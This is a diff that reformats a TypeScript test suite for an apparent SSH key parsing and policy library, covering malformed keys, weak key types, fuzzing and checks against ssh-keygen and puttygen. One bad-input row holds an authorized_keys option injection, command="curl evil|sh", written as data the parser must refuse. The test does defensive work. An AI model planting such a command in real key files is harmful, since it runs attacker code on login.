@@ -44,7 +44,10 @@ function sshKeygenFingerprint(file: string): string {
 }
 
 function puttygenFingerprint(file: string, passFile?: string): string {
-    const r = spawnSync("puttygen", [file, "-O", "fingerprint", ...(passFile ? ["--old-passphrase", passFile] : [])], { encoding: "utf8", input: "" });
+    const r = spawnSync("puttygen", [file, "-O", "fingerprint", ...(passFile ? ["--old-passphrase", passFile] : [])], {
+        encoding: "utf8",
+        input: "",
+    });
     assert.strictEqual(r.status, 0, `puttygen failed: ${r.stderr}`);
     const m = /(SHA256:[A-Za-z0-9+/]+)/.exec(r.stdout);
     assert.ok(m, `puttygen printed no SHA256 fingerprint: ${r.stdout}`);
@@ -95,7 +98,8 @@ before(function () {
 });
 
 describe("keys: refusing bad input", function () {
-    const pem = (type: "rsa" | "ec" | "dsa", o: object) => crypto.generateKeyPairSync(type as "rsa", o as crypto.RSAKeyPairOptions<"pem", "pem">);
+    const pem = (type: "rsa" | "ec" | "dsa", o: object) =>
+        crypto.generateKeyPairSync(type as "rsa", o as crypto.RSAKeyPairOptions<"pem", "pem">);
 
     interface Row {
         name: string;
@@ -111,13 +115,26 @@ describe("keys: refusing bad input", function () {
     const edLine = () => ed.publicKey;
     const edBlob = () => b64blob(ed.publicKey);
     const rsaPem1024 = () =>
-        crypto.generateKeyPairSync("rsa", { modulusLength: 1024, publicKeyEncoding: { type: "spki", format: "pem" }, privateKeyEncoding: { type: "pkcs1", format: "pem" } });
+        crypto.generateKeyPairSync("rsa", {
+            modulusLength: 1024,
+            publicKeyEncoding: { type: "spki", format: "pem" },
+            privateKeyEncoding: { type: "pkcs1", format: "pem" },
+        });
 
     const rows: Row[] = [
         { name: "empty string", input: () => "", stage: "parse", fn: "public", expect: /is empty.*expected/ },
         { name: "whitespace only", input: () => "  \t \n", stage: "parse", fn: "any", expect: /empty|expected/ },
         { name: "type without data", input: () => "ssh-ed25519", stage: "parse", fn: "public", expect: /no key data/ },
-        { name: "truncated base64 (length not a multiple of 4)", input: () => edLine().replace(/ alice@laptop$/, "").slice(0, -5), stage: "parse", fn: "public", expect: /not valid base64.*truncated/ },
+        {
+            name: "truncated base64 (length not a multiple of 4)",
+            input: () =>
+                edLine()
+                    .replace(/ alice@laptop$/, "")
+                    .slice(0, -5),
+            stage: "parse",
+            fn: "public",
+            expect: /not valid base64.*truncated/,
+        },
         {
             name: "truncated base64 (whole quads cut: blob ends early)",
             input: () => `ssh-ed25519 ${edBlob().subarray(0, 36).toString("base64")}`,
@@ -125,43 +142,169 @@ describe("keys: refusing bad input", function () {
             fn: "public",
             expect: /truncated or corrupt|expected 32/,
         },
-        { name: "base64 with foreign characters", input: () => "ssh-ed25519 AAAA$$$$****", stage: "parse", fn: "public", expect: /not valid base64/ },
-        { name: "type prefix mismatch (ssh-rsa label on an ed25519 blob)", input: () => edLine().replace(/^ssh-ed25519/, "ssh-rsa"), stage: "parse", fn: "public", expect: /type prefix mismatch/ },
-        { name: "type prefix mismatch (ecdsa label on an rsa blob)", input: () => rsa3072.publicKey.replace(/^ssh-rsa/, "ecdsa-sha2-nistp256"), stage: "parse", fn: "public", expect: /type prefix mismatch/ },
-        { name: "unknown key type", input: () => line("ssh-foo", [sshString(Buffer.alloc(32))]).replace(/^ssh-foo/, "ssh-foo"), stage: "parse", fn: "public", expect: /'ssh-foo' is not supported; expected ssh-ed25519/ },
-        { name: "base64 without a type", input: () => edLine().split(" ")[1], stage: "parse", fn: "public", expect: /no key type/ },
-        { name: "option injection: command=", input: () => `command="curl evil|sh" ${edLine()}`, stage: "parse", fn: "public", expect: /authorized_keys options \('command'.*belong in keyOptions/ },
-        { name: "option injection: restrict,from=", input: () => `restrict,from="10.0.0.0/8" ${edLine()}`, stage: "parse", fn: "public", expect: /options \('restrict'.*keyOptions/ },
-        { name: "option injection: no-pty before ssh-rsa", input: () => `no-pty ${rsa3072.publicKey}`, stage: "parse", fn: "public", expect: /options.*keyOptions/ },
-        { name: "embedded newline (two keys)", input: () => `${edLine()}\n${ec256.publicKey}`, stage: "parse", fn: "public", expect: /line break/ },
-        { name: "embedded newline (any format: two lines)", input: () => `${edLine()}\n${ec256.publicKey}\n`, stage: "parse", fn: "any", expect: /holds 2 lines; expected a single key/ },
-        { name: "carriage return inside the line", input: () => edLine().replace(" alice", "\ralice"), stage: "parse", fn: "public", expect: /carriage return/ },
-        { name: "NUL byte in the comment", input: () => `${edLine()}\u0000rm`, stage: "parse", fn: "public", expect: /control characters/ },
-        { name: "OpenSSH private key where a public key is expected", input: () => ed.privateKey, stage: "parse", fn: "public", expect: /PRIVATE key; give its public key/ },
-        { name: "PEM private key where a public key is expected", input: () => rsaPem1024().privateKey, stage: "parse", fn: "public", expect: /PRIVATE key/ },
-        { name: "PuTTY key where a public key is expected", input: () => edPpk, stage: "parse", fn: "public", expect: /PRIVATE key/ },
-        { name: "100 KB of junk", input: () => crypto.randomBytes(75 * 1024).toString("base64"), stage: "parse", fn: "any", expect: /more than any SSH key file/ },
-        { name: "100 KB line with a valid type prefix", input: () => `ssh-rsa ${"A".repeat(100 * 1024)}`, stage: "parse", fn: "public", expect: /more than a public key line can be/ },
-        { name: "1 MB binary Buffer", input: () => crypto.randomBytes(1024 * 1024), stage: "parse", fn: "any", expect: /more than any SSH key file/ },
-        { name: "small binary garbage", input: () => Buffer.from([0x30, 0x82, 0x01, 0x00, 0xff, 0x00, 0x13]), stage: "parse", fn: "any", expect: /binary data/ },
+        {
+            name: "base64 with foreign characters",
+            input: () => "ssh-ed25519 AAAA$$$$****",
+            stage: "parse",
+            fn: "public",
+            expect: /not valid base64/,
+        },
+        {
+            name: "type prefix mismatch (ssh-rsa label on an ed25519 blob)",
+            input: () => edLine().replace(/^ssh-ed25519/, "ssh-rsa"),
+            stage: "parse",
+            fn: "public",
+            expect: /type prefix mismatch/,
+        },
+        {
+            name: "type prefix mismatch (ecdsa label on an rsa blob)",
+            input: () => rsa3072.publicKey.replace(/^ssh-rsa/, "ecdsa-sha2-nistp256"),
+            stage: "parse",
+            fn: "public",
+            expect: /type prefix mismatch/,
+        },
+        {
+            name: "unknown key type",
+            input: () => line("ssh-foo", [sshString(Buffer.alloc(32))]).replace(/^ssh-foo/, "ssh-foo"),
+            stage: "parse",
+            fn: "public",
+            expect: /'ssh-foo' is not supported; expected ssh-ed25519/,
+        },
+        {
+            name: "base64 without a type",
+            input: () => edLine().split(" ")[1],
+            stage: "parse",
+            fn: "public",
+            expect: /no key type/,
+        },
+        {
+            name: "option injection: command=",
+            input: () => `command="curl evil|sh" ${edLine()}`,
+            stage: "parse",
+            fn: "public",
+            expect: /authorized_keys options \('command'.*belong in keyOptions/,
+        },
+        {
+            name: "option injection: restrict,from=",
+            input: () => `restrict,from="10.0.0.0/8" ${edLine()}`,
+            stage: "parse",
+            fn: "public",
+            expect: /options \('restrict'.*keyOptions/,
+        },
+        {
+            name: "option injection: no-pty before ssh-rsa",
+            input: () => `no-pty ${rsa3072.publicKey}`,
+            stage: "parse",
+            fn: "public",
+            expect: /options.*keyOptions/,
+        },
+        {
+            name: "embedded newline (two keys)",
+            input: () => `${edLine()}\n${ec256.publicKey}`,
+            stage: "parse",
+            fn: "public",
+            expect: /line break/,
+        },
+        {
+            name: "embedded newline (any format: two lines)",
+            input: () => `${edLine()}\n${ec256.publicKey}\n`,
+            stage: "parse",
+            fn: "any",
+            expect: /holds 2 lines; expected a single key/,
+        },
+        {
+            name: "carriage return inside the line",
+            input: () => edLine().replace(" alice", "\ralice"),
+            stage: "parse",
+            fn: "public",
+            expect: /carriage return/,
+        },
+        {
+            name: "NUL byte in the comment",
+            input: () => `${edLine()}\u0000rm`,
+            stage: "parse",
+            fn: "public",
+            expect: /control characters/,
+        },
+        {
+            name: "OpenSSH private key where a public key is expected",
+            input: () => ed.privateKey,
+            stage: "parse",
+            fn: "public",
+            expect: /PRIVATE key; give its public key/,
+        },
+        {
+            name: "PEM private key where a public key is expected",
+            input: () => rsaPem1024().privateKey,
+            stage: "parse",
+            fn: "public",
+            expect: /PRIVATE key/,
+        },
+        {
+            name: "PuTTY key where a public key is expected",
+            input: () => edPpk,
+            stage: "parse",
+            fn: "public",
+            expect: /PRIVATE key/,
+        },
+        {
+            name: "100 KB of junk",
+            input: () => crypto.randomBytes(75 * 1024).toString("base64"),
+            stage: "parse",
+            fn: "any",
+            expect: /more than any SSH key file/,
+        },
+        {
+            name: "100 KB line with a valid type prefix",
+            input: () => `ssh-rsa ${"A".repeat(100 * 1024)}`,
+            stage: "parse",
+            fn: "public",
+            expect: /more than a public key line can be/,
+        },
+        {
+            name: "1 MB binary Buffer",
+            input: () => crypto.randomBytes(1024 * 1024),
+            stage: "parse",
+            fn: "any",
+            expect: /more than any SSH key file/,
+        },
+        {
+            name: "small binary garbage",
+            input: () => Buffer.from([0x30, 0x82, 0x01, 0x00, 0xff, 0x00, 0x13]),
+            stage: "parse",
+            fn: "any",
+            expect: /binary data/,
+        },
         { name: "not a string at all", input: () => 42, stage: "parse", fn: "public", expect: /must be a string/ },
         {
             name: "OpenSSH certificate instead of a key",
-            input: () => line("ssh-ed25519-cert-v01@openssh.com", [sshString(crypto.randomBytes(32)), sshString(Buffer.alloc(32))]),
+            input: () =>
+                line("ssh-ed25519-cert-v01@openssh.com", [
+                    sshString(crypto.randomBytes(32)),
+                    sshString(Buffer.alloc(32)),
+                ]),
             stage: "parse",
             fn: "public",
             expect: /certificate.*give the plain public key/,
         },
         {
             name: "ecdsa point of the wrong length",
-            input: () => line("ecdsa-sha2-nistp256", [sshString("nistp256"), sshString(Buffer.concat([Buffer.from([4]), crypto.randomBytes(40)]))]),
+            input: () =>
+                line("ecdsa-sha2-nistp256", [
+                    sshString("nistp256"),
+                    sshString(Buffer.concat([Buffer.from([4]), crypto.randomBytes(40)])),
+                ]),
             stage: "parse",
             fn: "public",
             expect: /point is malformed/,
         },
         {
             name: "ecdsa point not on the curve",
-            input: () => line("ecdsa-sha2-nistp256", [sshString("nistp256"), sshString(Buffer.concat([Buffer.from([4]), Buffer.alloc(64, 1)]))]),
+            input: () =>
+                line("ecdsa-sha2-nistp256", [
+                    sshString("nistp256"),
+                    sshString(Buffer.concat([Buffer.from([4]), Buffer.alloc(64, 1)])),
+                ]),
             stage: "parse",
             fn: "public",
             expect: /not on the curve/,
@@ -176,9 +319,27 @@ describe("keys: refusing bad input", function () {
             fn: "public",
             expect: /names curve 'nistp256' but its type is ecdsa-sha2-nistp384/,
         },
-        { name: "trailing bytes after the key", input: () => `ssh-ed25519 ${Buffer.concat([edBlob(), Buffer.from("junk")]).toString("base64")}`, stage: "parse", fn: "public", expect: /unexpected bytes after the key/ },
-        { name: "RSA with an even modulus", input: () => line("ssh-rsa", [sshMpint(Buffer.from([1, 0, 1])), sshMpint(Buffer.alloc(256, 0x42))]), stage: "parse", fn: "public", expect: /RSA modulus is invalid/ },
-        { name: "PEM certificate block", input: () => "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n", stage: "parse", fn: "any", expect: /'CERTIFICATE' block, not a key/ },
+        {
+            name: "trailing bytes after the key",
+            input: () => `ssh-ed25519 ${Buffer.concat([edBlob(), Buffer.from("junk")]).toString("base64")}`,
+            stage: "parse",
+            fn: "public",
+            expect: /unexpected bytes after the key/,
+        },
+        {
+            name: "RSA with an even modulus",
+            input: () => line("ssh-rsa", [sshMpint(Buffer.from([1, 0, 1])), sshMpint(Buffer.alloc(256, 0x42))]),
+            stage: "parse",
+            fn: "public",
+            expect: /RSA modulus is invalid/,
+        },
+        {
+            name: "PEM certificate block",
+            input: () => "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
+            stage: "parse",
+            fn: "any",
+            expect: /'CERTIFICATE' block, not a key/,
+        },
         {
             name: "encrypted OpenSSH key, wrong passphrase",
             input: () => encryptPrivateKey(ed.privateKey, "right horse"),
@@ -190,7 +351,11 @@ describe("keys: refusing bad input", function () {
         {
             name: "encrypted PEM (PKCS#1) key, wrong passphrase (sshpk leaks an uncaught error here)",
             input: () =>
-                crypto.generateKeyPairSync("rsa", { modulusLength: 1024, publicKeyEncoding: { type: "spki", format: "pem" }, privateKeyEncoding: { type: "pkcs1", format: "pem", cipher: "aes-128-cbc", passphrase: "right" } }).privateKey,
+                crypto.generateKeyPairSync("rsa", {
+                    modulusLength: 1024,
+                    publicKeyEncoding: { type: "spki", format: "pem" },
+                    privateKeyEncoding: { type: "pkcs1", format: "pem", cipher: "aes-128-cbc", passphrase: "right" },
+                }).privateKey,
             passphrase: "wrong",
             stage: "parse",
             fn: "any",
@@ -199,7 +364,11 @@ describe("keys: refusing bad input", function () {
         {
             name: "encrypted PKCS#8 key, wrong passphrase",
             input: () =>
-                crypto.generateKeyPairSync("ec", { namedCurve: "P-256", publicKeyEncoding: { type: "spki", format: "pem" }, privateKeyEncoding: { type: "pkcs8", format: "pem", cipher: "aes-256-cbc", passphrase: "right" } }).privateKey,
+                crypto.generateKeyPairSync("ec", {
+                    namedCurve: "P-256",
+                    publicKeyEncoding: { type: "spki", format: "pem" },
+                    privateKeyEncoding: { type: "pkcs8", format: "pem", cipher: "aes-256-cbc", passphrase: "right" },
+                }).privateKey,
             passphrase: "wrong",
             stage: "parse",
             fn: "any",
@@ -208,22 +377,98 @@ describe("keys: refusing bad input", function () {
         {
             name: "encrypted PKCS#8 key without a passphrase",
             input: () =>
-                crypto.generateKeyPairSync("ec", { namedCurve: "P-256", publicKeyEncoding: { type: "spki", format: "pem" }, privateKeyEncoding: { type: "pkcs8", format: "pem", cipher: "aes-256-cbc", passphrase: "right" } }).privateKey,
+                crypto.generateKeyPairSync("ec", {
+                    namedCurve: "P-256",
+                    publicKeyEncoding: { type: "spki", format: "pem" },
+                    privateKeyEncoding: { type: "pkcs8", format: "pem", cipher: "aes-256-cbc", passphrase: "right" },
+                }).privateKey,
             stage: "parse",
             fn: "any",
             expect: /encrypted PKCS#8 private key.*give the passphrase/,
         },
-        { name: "EC key on a curve SSH does not use (secp256k1)", input: () => pem("ec", { namedCurve: "secp256k1", publicKeyEncoding: { type: "spki", format: "pem" }, privateKeyEncoding: { type: "pkcs8", format: "pem" } }).publicKey, stage: "parse", fn: "any", expect: /curve 'secp256k1'.*expected ecdsa nistp256/ },
+        {
+            name: "EC key on a curve SSH does not use (secp256k1)",
+            input: () =>
+                pem("ec", {
+                    namedCurve: "secp256k1",
+                    publicKeyEncoding: { type: "spki", format: "pem" },
+                    privateKeyEncoding: { type: "pkcs8", format: "pem" },
+                }).publicKey,
+            stage: "parse",
+            fn: "any",
+            expect: /curve 'secp256k1'.*expected ecdsa nistp256/,
+        },
         // Keys that parse but the rules refuse:
-        { name: "dsa", input: () => fs.readFileSync(path.join(FIXTURES, "dsa.pub"), "utf8"), stage: "judge", fn: "public", expect: /dsa keys are not allowed \(DSA .*removed from OpenSSH 10\.0\); expected ed25519, ecdsa/ },
-        { name: "rsa1 (SSH protocol 1)", input: () => fs.readFileSync(path.join(FIXTURES, "rsa1.pub"), "utf8"), stage: "judge", fn: "public", expect: /rsa1 keys are not allowed/ },
-        { name: "rsa-1024", input: () => rsaPem1024().publicKey, stage: "judge", fn: "any", expect: /rsa-1024 is too small.*at least 3072/ },
-        { name: "rsa-2048", input: () => fs.readFileSync(path.join(FIXTURES, "rsa2048.pub"), "utf8"), stage: "judge", fn: "public", expect: /rsa-2048 is too small.*expected ed25519, ecdsa \(nistp256, nistp384, nistp521\) or rsa of at least 3072 bits/ },
-        { name: "ecdsa P-224 (PEM)", input: () => pem("ec", { namedCurve: "secp224r1", publicKeyEncoding: { type: "spki", format: "pem" }, privateKeyEncoding: { type: "pkcs8", format: "pem" } }).publicKey, stage: "judge", fn: "any", expect: /ecdsa curve nistp224 is not allowed/ },
-        { name: "ecdsa P-224 (OpenSSH line)", input: () => fs.readFileSync(path.join(FIXTURES, "p224.pub"), "utf8"), stage: "judge", fn: "public", expect: /ecdsa curve nistp224 is not allowed/ },
-        { name: "unencrypted private key of a person", input: () => ed.privateKey, stage: "judge", fn: "any", expect: /no passphrase; a person's private key must be passphrase-protected/ },
-        { name: "ecdsa for EC2 import", input: () => ec256.publicKey, stage: "judge", fn: "public", ctx: { ec2Import: true }, expect: /EC2 can import only rsa and ed25519 keys, not ecdsa nistp256; expected ed25519 or rsa of exactly 4096 bits/ },
-        { name: "rsa-3072 for EC2 import", input: () => rsa3072.publicKey, stage: "judge", fn: "public", ctx: { ec2Import: true }, expect: /rsa-3072 is not allowed for EC2 import.*exactly 4096/ },
+        {
+            name: "dsa",
+            input: () => fs.readFileSync(path.join(FIXTURES, "dsa.pub"), "utf8"),
+            stage: "judge",
+            fn: "public",
+            expect: /dsa keys are not allowed \(DSA .*removed from OpenSSH 10\.0\); expected ed25519, ecdsa/,
+        },
+        {
+            name: "rsa1 (SSH protocol 1)",
+            input: () => fs.readFileSync(path.join(FIXTURES, "rsa1.pub"), "utf8"),
+            stage: "judge",
+            fn: "public",
+            expect: /rsa1 keys are not allowed/,
+        },
+        {
+            name: "rsa-1024",
+            input: () => rsaPem1024().publicKey,
+            stage: "judge",
+            fn: "any",
+            expect: /rsa-1024 is too small.*at least 3072/,
+        },
+        {
+            name: "rsa-2048",
+            input: () => fs.readFileSync(path.join(FIXTURES, "rsa2048.pub"), "utf8"),
+            stage: "judge",
+            fn: "public",
+            expect: /rsa-2048 is too small.*expected ed25519, ecdsa \(nistp256, nistp384, nistp521\) or rsa of at least 3072 bits/,
+        },
+        {
+            name: "ecdsa P-224 (PEM)",
+            input: () =>
+                pem("ec", {
+                    namedCurve: "secp224r1",
+                    publicKeyEncoding: { type: "spki", format: "pem" },
+                    privateKeyEncoding: { type: "pkcs8", format: "pem" },
+                }).publicKey,
+            stage: "judge",
+            fn: "any",
+            expect: /ecdsa curve nistp224 is not allowed/,
+        },
+        {
+            name: "ecdsa P-224 (OpenSSH line)",
+            input: () => fs.readFileSync(path.join(FIXTURES, "p224.pub"), "utf8"),
+            stage: "judge",
+            fn: "public",
+            expect: /ecdsa curve nistp224 is not allowed/,
+        },
+        {
+            name: "unencrypted private key of a person",
+            input: () => ed.privateKey,
+            stage: "judge",
+            fn: "any",
+            expect: /no passphrase; a person's private key must be passphrase-protected/,
+        },
+        {
+            name: "ecdsa for EC2 import",
+            input: () => ec256.publicKey,
+            stage: "judge",
+            fn: "public",
+            ctx: { ec2Import: true },
+            expect: /EC2 can import only rsa and ed25519 keys, not ecdsa nistp256; expected ed25519 or rsa of exactly 4096 bits/,
+        },
+        {
+            name: "rsa-3072 for EC2 import",
+            input: () => rsa3072.publicKey,
+            stage: "judge",
+            fn: "public",
+            ctx: { ec2Import: true },
+            expect: /rsa-3072 is not allowed for EC2 import.*exactly 4096/,
+        },
     ];
 
     let watch: ReturnType<typeof watchUncaught>;
@@ -241,7 +486,9 @@ describe("keys: refusing bad input", function () {
             const label = `bad[${i}]`;
             const input = row.input();
             const parse = (): KeyInfo =>
-                row.fn === "public" ? parsePublicKey(input as string, label) : parseKey(input as string, { label, passphrase: row.passphrase });
+                row.fn === "public"
+                    ? parsePublicKey(input as string, label)
+                    : parseKey(input as string, { label, passphrase: row.passphrase });
             if (row.stage === "parse") {
                 assert.throws(parse, (e: unknown) => {
                     assert.ok(e instanceof KeyError, `expected a KeyError, got ${String(e)}`);
@@ -249,7 +496,8 @@ describe("keys: refusing bad input", function () {
                     assert.ok(e.message.startsWith(`${label}: `), `message must name the input: ${e.message}`);
                     assert.match(e.message, row.expect);
                     // Never echo key material back (the input could be a private key).
-                    if (typeof input === "string" && input.length > 40) assert.ok(!e.message.includes(input.slice(12, 52)), "message echoes the input");
+                    if (typeof input === "string" && input.length > 40)
+                        assert.ok(!e.message.includes(input.slice(12, 52)), "message echoes the input");
                     return true;
                 });
             } else {
@@ -279,9 +527,23 @@ describe("keys: mutated keys never crash the parser", function () {
             seed ^= seed << 5;
             return (seed >>> 0) % n;
         };
-        const pem = crypto.generateKeyPairSync("rsa", { modulusLength: 1024 }).privateKey.export({ type: "pkcs1", format: "pem" }) as string;
-        const p8 = crypto.generateKeyPairSync("ec", { namedCurve: "P-384" }).privateKey.export({ type: "pkcs8", format: "pem" }) as string;
-        const inputs = [ed.publicKey, ec256.publicKey, rsa3072.publicKey, ed.privateKey, ec256.privateKey, rsa3072.privateKey, pem, p8, await toPpk(ec256.privateKey)];
+        const pem = crypto
+            .generateKeyPairSync("rsa", { modulusLength: 1024 })
+            .privateKey.export({ type: "pkcs1", format: "pem" }) as string;
+        const p8 = crypto
+            .generateKeyPairSync("ec", { namedCurve: "P-384" })
+            .privateKey.export({ type: "pkcs8", format: "pem" }) as string;
+        const inputs = [
+            ed.publicKey,
+            ec256.publicKey,
+            rsa3072.publicKey,
+            ed.privateKey,
+            ec256.privateKey,
+            rsa3072.privateKey,
+            pem,
+            p8,
+            await toPpk(ec256.privateKey),
+        ];
         const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/= \n-:";
         const crashes: string[] = [];
         let refused = 0;
@@ -325,7 +587,13 @@ describe("keys: parsing what real tools write", function () {
     });
     after(() => dir && fs.rmSync(dir, { recursive: true, force: true }));
 
-    const kinds: { t: string; b?: string }[] = [{ t: "ed25519" }, { t: "ecdsa", b: "256" }, { t: "ecdsa", b: "384" }, { t: "ecdsa", b: "521" }, { t: "rsa", b: "3072" }];
+    const kinds: { t: string; b?: string }[] = [
+        { t: "ed25519" },
+        { t: "ecdsa", b: "256" },
+        { t: "ecdsa", b: "384" },
+        { t: "ecdsa", b: "521" },
+        { t: "rsa", b: "3072" },
+    ];
     for (const k of kinds) {
         it(`reads ssh-keygen's ${k.t}${k.b ? "-" + k.b : ""} in every format it writes, with its fingerprint`, function () {
             const f = path.join(dir, `${k.t}${k.b ?? ""}`);
@@ -349,7 +617,10 @@ describe("keys: parsing what real tools write", function () {
                 assert.strictEqual(priv.encrypted, false);
                 assert.strictEqual(priv.format, fmt === "RFC4716" ? "openssh" : fmt === "PEM" ? "pem" : "pkcs8");
                 assert.strictEqual(priv.type, k.t);
-                assert.strictEqual(priv.publicKey.split(" ").slice(0, 2).join(" "), pub.publicKey.split(" ").slice(0, 2).join(" "));
+                assert.strictEqual(
+                    priv.publicKey.split(" ").slice(0, 2).join(" "),
+                    pub.publicKey.split(" ").slice(0, 2).join(" "),
+                );
             }
         });
     }
@@ -362,7 +633,10 @@ describe("keys: parsing what real tools write", function () {
         assert.strictEqual(info.encrypted, true);
         assert.strictEqual(info.fingerprint, sshKeygenFingerprint(`${f}.pub`));
         assert.strictEqual(parseKey(text, { passphrase: "open sesame" }).comment, "enc@h");
-        assert.throws(() => parseKey(text, { passphrase: "close sesame", label: "enc" }), /enc: the passphrase is wrong/);
+        assert.throws(
+            () => parseKey(text, { passphrase: "close sesame", label: "enc" }),
+            /enc: the passphrase is wrong/,
+        );
         assert.deepStrictEqual(judgeKey(info), []);
     });
 
@@ -370,11 +644,17 @@ describe("keys: parsing what real tools write", function () {
         const f = path.join(dir, "encpem");
         execFileSync("ssh-keygen", ["-q", "-t", "rsa", "-b", "3072", "-m", "PEM", "-N", "pem pass", "-f", f]);
         const text = fs.readFileSync(f, "utf8");
-        assert.throws(() => parseKey(text, { label: "encpem" }), (e: unknown) => e instanceof KeyEncryptedError && /encpem: is an encrypted PEM/.test(e.message));
+        assert.throws(
+            () => parseKey(text, { label: "encpem" }),
+            (e: unknown) => e instanceof KeyEncryptedError && /encpem: is an encrypted PEM/.test(e.message),
+        );
         const info = parseKey(text, { passphrase: "pem pass" });
         assert.strictEqual(info.fingerprint, sshKeygenFingerprint(`${f}.pub`));
         assert.strictEqual(info.encrypted, true);
-        assert.strictEqual(publicKeyOf(text, "pem pass").split(" ")[1], fs.readFileSync(`${f}.pub`, "utf8").split(" ")[1]);
+        assert.strictEqual(
+            publicKeyOf(text, "pem pass").split(" ")[1],
+            fs.readFileSync(`${f}.pub`, "utf8").split(" ")[1],
+        );
     });
 });
 
@@ -415,17 +695,25 @@ describe("keys: generation, encryption and fingerprints against ssh-keygen", fun
             if (!["ed25519", "ecdsa-nistp384", "rsa-3072"].includes(name)) return;
             const enc = write(dir, `${name}.enc`, encryptPrivateKey(g.privateKey, "s3cret phrase"));
             const encText = fs.readFileSync(enc, "utf8");
-            assert.ok(!encText.includes(g.privateKey.split("\n")[3]), "encrypted output must not contain the plain key");
+            assert.ok(
+                !encText.includes(g.privateKey.split("\n")[3]),
+                "encrypted output must not contain the plain key",
+            );
             const ok = spawnSync("ssh-keygen", ["-y", "-P", "s3cret phrase", "-f", enc], { encoding: "utf8" });
             assert.strictEqual(ok.status, 0, ok.stderr);
-            assert.strictEqual(ok.stdout.trim().split(" ").slice(0, 2).join(" "), g.publicKey.split(" ").slice(0, 2).join(" "));
+            assert.strictEqual(
+                ok.stdout.trim().split(" ").slice(0, 2).join(" "),
+                g.publicKey.split(" ").slice(0, 2).join(" "),
+            );
             const bad = spawnSync("ssh-keygen", ["-y", "-P", "wrong phrase", "-f", enc], { encoding: "utf8" });
             assert.notStrictEqual(bad.status, 0, "ssh-keygen accepted a wrong passphrase");
             // aes256-ctr with bcrypt, the one cipher puttygen also reads.
             const info = parseKey(encText);
             assert.strictEqual(info.encrypted, true);
             assert.strictEqual(info.fingerprint, g.fingerprint);
-            assert.ok(Buffer.from(encText.split("\n").slice(1, -2).join(""), "base64").includes(Buffer.from("aes256-ctr")));
+            assert.ok(
+                Buffer.from(encText.split("\n").slice(1, -2).join(""), "base64").includes(Buffer.from("aes256-ctr")),
+            );
             const plain = parseKey(decryptPrivateKey(encText, "s3cret phrase"));
             assert.strictEqual(plain.fingerprint, g.fingerprint);
             assert.strictEqual(plain.encrypted, false);
@@ -433,8 +721,14 @@ describe("keys: generation, encryption and fingerprints against ssh-keygen", fun
     }
 
     it("refuses bad generation options with the option named", () => {
-        assert.throws(() => generateKey({ type: "rsa", bits: 2048 }), /bits: rsa keys are generated with 3072 or 4096 bits; got 2048/);
-        assert.throws(() => generateKey({ type: "ecdsa", curve: "nistp224" }), /curve: expected nistp256, nistp384 or nistp521/);
+        assert.throws(
+            () => generateKey({ type: "rsa", bits: 2048 }),
+            /bits: rsa keys are generated with 3072 or 4096 bits; got 2048/,
+        );
+        assert.throws(
+            () => generateKey({ type: "ecdsa", curve: "nistp224" }),
+            /curve: expected nistp256, nistp384 or nistp521/,
+        );
         assert.throws(() => generateKey({ type: "dsa" as "rsa" }), /type: expected ed25519, ecdsa or rsa/);
         assert.throws(() => generateKey({ type: "ed25519", comment: "a\nb" }), /comment/);
         assert.throws(() => encryptPrivateKey(ed.privateKey, ""), /passphrase: must be a non-empty string/);
@@ -453,14 +747,22 @@ describe("keys: PuTTY PPK v3", function () {
 
     for (const which of ["ed25519", "ecdsa-nistp384", "rsa-3072"]) {
         it(`puttygen reads our unencrypted ${which} .ppk with the same fingerprint and converts it back`, async function () {
-            const g = which === "ed25519" ? ed : which === "rsa-3072" ? rsa3072 : generateKey({ type: "ecdsa", curve: "nistp384", comment: "ec384" });
+            const g =
+                which === "ed25519"
+                    ? ed
+                    : which === "rsa-3072"
+                      ? rsa3072
+                      : generateKey({ type: "ecdsa", curve: "nistp384", comment: "ec384" });
             const ppk = await toPpk(g.privateKey);
             assert.match(ppk, /^PuTTY-User-Key-File-3: /);
             assert.match(ppk, /\nEncryption: none\n/);
             const f = write(dir, `${which}.ppk`, ppk);
             assert.strictEqual(puttygenFingerprint(f), g.fingerprint);
             const out = path.join(dir, `${which}.from-ppk`);
-            const r = spawnSync("puttygen", [f, "-O", "private-openssh-new", "-o", out], { encoding: "utf8", input: "" });
+            const r = spawnSync("puttygen", [f, "-O", "private-openssh-new", "-o", out], {
+                encoding: "utf8",
+                input: "",
+            });
             assert.strictEqual(r.status, 0, r.stderr);
             assert.strictEqual(sshKeygenFingerprint(out), g.fingerprint);
             assert.strictEqual(parseKey(ppk).fingerprint, g.fingerprint);
@@ -471,17 +773,30 @@ describe("keys: PuTTY PPK v3", function () {
     it("puttygen reads our passphrase-protected .ppk (Argon2id, aes256-cbc) and refuses a wrong passphrase", async function () {
         const ppk = await toPpk(rsa3072.privateKey, { passphrase: "ppk pass phrase", comment: "win user" });
         assert.match(ppk, /\nEncryption: aes256-cbc\nComment: win user\n/);
-        assert.match(ppk, new RegExp(`\\nKey-Derivation: Argon2id\\nArgon2-Memory: ${PPK_ARGON2.memory}\\nArgon2-Passes: ${PPK_ARGON2.passes}\\nArgon2-Parallelism: 1\\nArgon2-Salt: [0-9a-f]{32}\\n`));
+        assert.match(
+            ppk,
+            new RegExp(
+                `\\nKey-Derivation: Argon2id\\nArgon2-Memory: ${PPK_ARGON2.memory}\\nArgon2-Passes: ${PPK_ARGON2.passes}\\nArgon2-Parallelism: 1\\nArgon2-Salt: [0-9a-f]{32}\\n`,
+            ),
+        );
         const f = write(dir, "enc.ppk", ppk);
         assert.strictEqual(puttygenFingerprint(f, passFile), rsa3072.fingerprint);
         const wrong = write(dir, "wrong", "not it\n");
-        const r = spawnSync("puttygen", [f, "-O", "private-openssh", "-o", path.join(dir, "never"), "--old-passphrase", wrong], { encoding: "utf8", input: "" });
+        const r = spawnSync(
+            "puttygen",
+            [f, "-O", "private-openssh", "-o", path.join(dir, "never"), "--old-passphrase", wrong],
+            { encoding: "utf8", input: "" },
+        );
         assert.notStrictEqual(r.status, 0, "puttygen accepted a wrong passphrase");
         assert.ok(!fs.existsSync(path.join(dir, "never")));
         // Convert back through puttygen (dropping the passphrase) and compare with ssh-keygen.
         const empty = write(dir, "empty", "");
         const out = path.join(dir, "enc.from-ppk");
